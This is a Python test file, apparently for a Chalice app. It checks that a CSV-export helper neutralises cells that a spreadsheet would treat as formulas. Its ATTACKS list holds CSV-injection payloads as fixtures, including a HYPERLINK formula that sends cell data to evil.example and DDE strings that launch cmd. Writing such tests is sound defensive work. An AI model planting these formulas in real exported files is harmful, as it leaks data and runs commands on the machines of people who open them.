"""Cells written to our CSVs never start a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.csv_safe import DANGEROUS_FIRST, neutralise, neutralise_row

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|x",
    "@SUM(1+1)*cmd|x",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r",
    "=",
    "-5",  # a plain negative number is quoted too (OWASP: acceptable for files people read)
]

# Text that starts with anything, a dangerous character quite often.
CELLS = st.one_of(
    st.text(), st.builds(lambda first, rest: first + rest, st.sampled_from(sorted(DANGEROUS_FIRST)), st.text())
)


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "r1", "12.50", "bad_amount", "'=1+1", " =1+1", "a=b", "中文", "\n=1"])
def test_a_safe_cell_is_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


@given(CELLS)
def test_a_neutralised_cell_never_starts_with_a_dangerous_character(cell: str) -> None:
    assert neutralise(cell)[:1] not in DANGEROUS_FIRST


@given(CELLS)
def test_the_value_stays_readable_and_neutralising_twice_changes_nothing(cell: str) -> None:
    safe = neutralise(cell)
    assert safe in (cell, "'" + cell)
    assert (safe == cell) == (cell[:1] not in DANGEROUS_FIRST)
    assert neutralise(safe) == safe


@given(st.lists(CELLS, max_size=8))
def test_a_row_written_by_the_csv_module_reads_back_with_no_dangerous_cell(cells: list[str]) -> None:
    text = io.StringIO(newline="")
    csv.writer(text, lineterminator="\r\n").writerow(neutralise_row(cells))
    back = next(csv.reader(io.StringIO(text.getvalue(), newline="")), [])
    assert back == neutralise_row(cells)
    assert all(cell[:1] not in DANGEROUS_FIRST for cell in back)
